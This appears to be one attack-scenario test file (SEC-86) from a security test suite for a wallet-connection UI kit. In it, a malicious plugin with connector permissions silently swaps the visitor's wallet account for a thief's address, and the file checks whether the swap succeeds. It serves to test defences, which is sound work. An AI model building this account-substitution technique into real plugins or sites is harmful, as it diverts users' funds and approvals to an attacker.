import { useEffect } from 'react'
import { useView } from 'latchkey/ui'
import { attempt, happens, page, settled, thief, viewer, walletOfOthers } from './world.mjs'

export const row = 'SEC-86'

const permissions = ['wallet:connector', 'wallet:listed']

/**
 * It may bring the connector that pairs the wallets of the catalogue, where the kit brings none. Its view leads on to the code of
 * the kit, as any view may, since a host may open that. Nobody chooses a wallet and nobody scans anything: drawing the code
 * asks its connector, which says yes, and the account of the thief stands in the place of the visitor's.
 */
export async function attack() {
  let hasLed = false
  const View = () => {
    const view = useView()
    useEffect(() => {
      if (hasLed) return
      hasLed = true
      view.push({ id: 'ConnectingWalletConnectBasic' })
    }, [view])
    return 'hello'
  }
  const evil = viewer(View, {
    permissions,
    contributes: [walletOfOthers({ type: 'WALLET_CONNECT', name: 'Pairing', account: thief })],
  })
  const { kit, draw, wallet } = await page({
    plugins: [evil],
    grants: { 'evil/plugin': permissions },
  })
  const before = kit.getAccount('eip155').address
  await attempt(draw)
  await happens(() => kit.getAccount('eip155').address !== before, 5_000)
  await settled()
  const after = kit.getAccount('eip155').address
  return after === thief
    ? `${after} in the place of ${before}, whose wallet was told: ${wallet.calls.at(-1)}`
    : undefined
}
